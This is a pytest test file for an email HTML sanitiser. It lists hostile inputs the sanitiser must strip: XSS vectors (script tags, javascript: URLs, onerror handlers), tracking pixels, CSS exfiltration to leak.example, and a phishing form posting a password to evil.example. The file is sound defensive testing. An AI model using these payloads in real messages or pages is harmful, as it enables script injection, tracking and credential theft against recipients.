"""The sanitiser against the threats its docstring names: XSS, tracking, CSS, phishing forms."""

from __future__ import annotations

import re

import pytest

from heard.mail.parsing.sanitize import sanitize_html


@pytest.mark.parametrize(
    ("html", "forbidden"),
    [
        # XSS
        ("<script>alert(1)</script>", ["<script", "alert"]),
        ('<img src="cid:a" onerror="alert(1)">', ["onerror", "alert"]),
        ('<a href="javascript:alert(1)">x</a>', ["javascript"]),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', ["avascript", "alert"]),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', ["data:"]),
        ("<svg><script>alert(1)</script></svg>", ["<svg", "alert"]),
        ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', ["<math", "javascript"]),
        ('<iframe src="https://evil.example"></iframe>', ["<iframe", "evil"]),
        ('<object data="x.swf"></object><embed src="x.swf">', ["<object", "<embed", "swf"]),
        ('<base href="https://evil.example/">', ["<base", "evil"]),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ["<meta", "evil"]),
        ('<div onmouseover="steal()">hover</div>', ["onmouseover", "steal"]),
        # Tracking pixels and remote images
        (
            '<img src="https://track.example/open.gif" width="1" height="1">',
            ["track.example", "src="],
        ),
        ('<img src="//track.example/open.gif">', ["track.example"]),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', ["data:", "src="]),
        (
            '<table background="https://track.example/bg.gif"><tr><td>x</td></tr></table>',
            ["track.example"],
        ),
        # CSS exfiltration and UI redress
        (
            "<style>input[value^=a]{background:url(https://leak.example/a)}</style>",
            ["<style", "leak"],
        ),
        (
            '<div style="position:fixed;top:0;background:url(https://leak.example)">x</div>',
            ["style=", "leak"],
        ),
        ('<p class="btn btn-primary" id="csrf-token">x</p>', ["class=", "id="]),
        ('<link rel="stylesheet" href="https://leak.example/a.css">', ["<link", "leak"]),
        # Phishing forms
        (
            '<form action="https://evil.example/login"><input type="password" name="pw">'
            "<button>Log in</button></form>",
            ["<form", "<input", "<button", "evil", "password"],
        ),
        (
            "<select><option>Visa</option></select><textarea>card number</textarea>",
            ["Visa", "card number"],
        ),
        # Relative URLs resolve against Heard's own origin
        ('<a href="/admin/logout">x</a>', ["/admin"]),
        ("<!-- secret comment --><b>x</b>", ["secret"]),
    ],
)
def test_it_removes_what_an_attacker_would_use(html: str, forbidden: list[str]) -> None:
    cleaned = sanitize_html(html)
    for text in forbidden:
        assert text.lower() not in cleaned.lower(), cleaned


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        (
            '<a href="https://shop.example/o/1">order</a>',
            [
                'href="https://shop.example/o/1"',
                'rel="noopener noreferrer nofollow"',
                'target="_blank"',
            ],
        ),
        ('<a href="mailto:help@shop.example">mail us</a>', ['href="mailto:help@shop.example"']),
        (
            '<img src="cid:image001.png@01DB8D0E" alt="logo">',
            ['src="cid:image001.png@01DB8D0E"', 'alt="logo"'],
        ),
        (
            "<p>Hello <b>bold</b> <i>it</i></p><ul><li>one</li></ul>",
            ["<p>Hello <b>bold</b> <i>it</i></p>", "<li>one</li>"],
        ),
        (
            '<blockquote>quoted</blockquote><table><tr><td colspan="2">cell</td></tr></table>',
            ["<blockquote>quoted</blockquote>", '<td colspan="2">cell</td>'],
        ),
        (
            '<form action="https://evil.example"><p>Please confirm</p></form>',
            ["<p>Please confirm</p>"],
        ),
    ],
)
def test_it_keeps_safe_formatting_and_the_mails_own_images(html: str, kept: list[str]) -> None:
    cleaned = sanitize_html(html)
    for text in kept:
        assert text in cleaned, cleaned


def test_a_link_cannot_bring_its_own_rel_or_target() -> None:
    cleaned = sanitize_html('<a href="https://x.example" rel="opener" target="_self">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'opener"' not in cleaned.replace("noopener", "") and "_self" not in cleaned


@pytest.mark.parametrize(
    ("html", "attributes"),
    [
        (
            '<img src="https://track.example/open.gif" width="1" height="1">',
            {"width": "1", "height": "1", "alt": ""},
        ),
        ("<p>x<img/>y</p>", {"alt": ""}),
        ('<img src="cid:logo" alt="Shop logo">', {"src": "cid:logo", "alt": "Shop logo"}),
        ('<img ALT="Logo" Src=cid:y>', {"src": "cid:y", "alt": "Logo"}),
        ('<img title="a > b" src="cid:x">', {"title": "a &gt; b", "src": "cid:x", "alt": ""}),
    ],
)
def test_an_image_that_says_nothing_is_marked_decorative(
    html: str, attributes: dict[str, str]
) -> None:
    cleaned = sanitize_html(html)
    tags = re.findall(r"<img(?:\s[a-z]+=\"[^\"]*\")*>", cleaned)
    assert len(tags) == 1, cleaned
    assert dict(re.findall(r'\s([a-z]+)="([^"]*)"', tags[0])) == attributes, cleaned
